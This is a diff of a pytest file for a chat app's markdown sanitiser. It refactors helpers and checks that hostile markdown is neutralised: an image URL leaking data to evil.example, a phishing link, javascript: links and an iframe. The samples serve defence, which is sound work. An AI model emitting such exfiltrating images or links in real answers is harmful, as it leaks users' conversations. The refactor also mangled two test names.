@@ -6,40 +6,22 @@ from __future__ import annotations
 from datetime import datetime, timezone
 
 import pytest
-from markdown_it import MarkdownIt
 
 from docchat.domain import Citation, Message, Role
 from docchat.safe_markdown import inert, link_allowed
 from docchat.ui.sources import linked
 
+from tests.hostile_text import markdown_tokens, shown_text
+
 LEAK = "https://evil.example/leak?q=Harbour+Family+Trust+Determination+Date"
 
 
-def _tokens(markdown: str):
-    """Every token of `markdown` as CommonMark with GFM tables reads it, links of any scheme
-    included (markdown-it alone would refuse to parse `javascript:` as a link)."""
-    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
-    md.validateLink = lambda url: True
-
-    def walk(tokens):
-        for token in tokens:
-            yield token
-            yield from walk(token.children or [])
-
-    return list(walk(md.parse(markdown)))
-
-
-def _text(markdown: str) -> str:
-    """What a reader sees: the text and code of `markdown`."""
-    return "".join(t.content for t in _tokens(markdown) if t.type in ("text", "code_inline"))
-
-
 def _links(markdown: str) -> list[str]:
-    return [t.attrs["href"] for t in _tokens(markdown) if t.type == "link_open"]
+    return [t.attrs["href"] for t in markdown_tokens(markdown) if t.type == "link_open"]
 
 
 def assert_inert(markdown: str) -> None:
-    kinds = {t.type for t in _tokens(markdown)}
+    kinds = {t.type for t in markdown_tokens(markdown)}
     assert not kinds & {"image", "html_inline", "html_block"}, markdown
     assert all(link_allowed(href) for href in _links(markdown)), markdown
 
@@ -65,8 +47,8 @@ def test_an_image_that_would_carry_the_conversation_away_is_shown_as_its_address
     shown = inert(markdown)
 
     assert_inert(shown)
-    assert "image not loaded" in _text(shown)
-    assert "evil.example/leak?q=" in _text(shown)
+    assert "image not loaded" in shown_text(shown)
+    assert "evil.example/leak?q=" in shown_text(shown)
 
 
 @pytest.mark.parametrize("address", ["//evil.example/pixel.png", "data:image/png;base64,iVBORw0KGgo=",
@@ -75,13 +57,13 @@ def test_protocol_relative_data_and_relative_images_are_never_images_either(addr
     shown = inert(f"Here: ![pixel]({address})")
 
     assert_inert(shown)
-    assert f"image not loaded: pixel — {address}" in _text(shown)
+    assert f"image not loaded: pixel — {address}" in shown_text(shown)
 
 
 def test_an_image_address_is_shown_in_a_code_span_so_it_does_not_become_a_link():
     shown = inert(f"![chart]({LEAK})")
 
-    assert [t.content for t in _tokens(shown) if t.type == "code_inline"] == [LEAK]
+    assert [t.content for t in markdown_tokens(shown) if t.type == "code_inline"] == [LEAK]
 
 
 def test_an_unfinished_image_in_a_streaming_answer_cannot_be_completed_into_one():
@@ -94,7 +76,7 @@ def test_a_link_whose_text_hides_its_target_shows_the_target_beside_it():
     shown = inert("Log in to [your bank](https://evil.example/login) to see the trust deed.")
 
     assert _links(shown) == ["https://evil.example/login"]
-    assert "your bank (https://evil.example/login) to see" in _text(shown)
+    assert "your bank (https://evil.example/login) to see" in shown_text(shown)
 
 
 @pytest.mark.parametrize("markdown", ["See <https://docs.example/trust>.", "Write to <trustee@harbour.example>.",
@@ -118,15 +100,15 @@ def test_a_link_to_any_other_scheme_becomes_text_with_its_target(target, shown):
 
     assert_inert(written)
     assert _links(written) == []
-    assert _text(written) == f"Click the trust deed [link blocked: {shown}] now."
+    assert shown_text(written) == f"Click the trust deed [link blocked: {shown}] now."
 
 
-def test_an_autolink_to_javascript_becomes_text():
+def test_an_autolink_to_javascript_becomesshown_text():
     shown = inert("Open <javascript:alert(1)> for the date.")
 
     assert_inert(shown)
     assert _links(shown) == []
-    assert _text(shown) == "Open [link blocked: javascript:alert(1)] for the date."
+    assert shown_text(shown) == "Open [link blocked: javascript:alert(1)] for the date."
 
 
 def test_a_reference_link_to_javascript_becomes_text_and_its_definition_goes():
@@ -134,7 +116,7 @@ def test_a_reference_link_to_javascript_becomes_text_and_its_definition_goes():
 
     assert_inert(shown)
     assert "[deed]:" not in shown
-    assert _text(shown) == "See the deed [link blocked: javascript:alert(1)]."
+    assert shown_text(shown) == "See the deed [link blocked: javascript:alert(1)]."
 
 
 @pytest.mark.parametrize("html", [
@@ -148,7 +130,7 @@ def test_inline_html_is_shown_as_the_text_it_is(html):
     shown = inert(f"The date is the 15th {html} as agreed.")
 
     assert_inert(shown)
-    assert _text(shown) == f"The date is the 15th {html} as agreed."
+    assert shown_text(shown) == f"The date is the 15th {html} as agreed."
 
 
 def test_an_html_block_is_shown_as_text_with_whatever_it_hid():
@@ -158,9 +140,9 @@ def test_an_html_block_is_shown_as_text_with_whatever_it_hid():
     shown = inert(f"The answer:\n\n{block}\n\nThat is all.")
 
     assert_inert(shown)
-    assert '<iframe src="https://evil.example/frame"></iframe>' in _text(shown)
-    assert "![chart](https://evil.example/in-block.png)" in _text(shown)
-    assert "That is all." in _text(shown)
+    assert '<iframe src="https://evil.example/frame"></iframe>' in shown_text(shown)
+    assert "![chart](https://evil.example/in-block.png)" in shown_text(shown)
+    assert "That is all." in shown_text(shown)
 
 
 def test_text_indented_as_a_whole_is_judged_as_streamlit_reads_it_after_dedenting():
@@ -168,15 +150,15 @@ def test_text_indented_as_a_whole_is_judged_as_streamlit_reads_it_after_dedentin
     shown = inert(f"    The date is the 15th.\n    ![chart]({LEAK})")
 
     assert_inert(shown)
-    assert "image not loaded" in _text(shown)
+    assert "image not loaded" in shown_text(shown)
 
 
-def test_text_nested_deeper_than_the_parser_follows_is_shown_as_plain_text():
+def test_text_nested_deeper_than_the_parser_follows_is_shown_as_plainshown_text():
     shown = inert(">" * 60 + f" ![chart]({LEAK})")
 
     assert_inert(shown)
-    assert _tokens(shown)[0].type == "paragraph_open"
-    assert LEAK in _text(shown)
+    assert markdown_tokens(shown)[0].type == "paragraph_open"
+    assert LEAK in shown_text(shown)
 
 
 ORDINARY = {
@@ -211,7 +193,7 @@ def test_citation_links_added_after_it_still_open_their_sources():
 
     assert_inert(shown)
     assert _links(shown) == ["?c=c-42&s=m-77.1"]
-    assert "image not loaded" in _text(shown)
+    assert "image not loaded" in shown_text(shown)
 
 
 @pytest.mark.parametrize("href, allowed", [
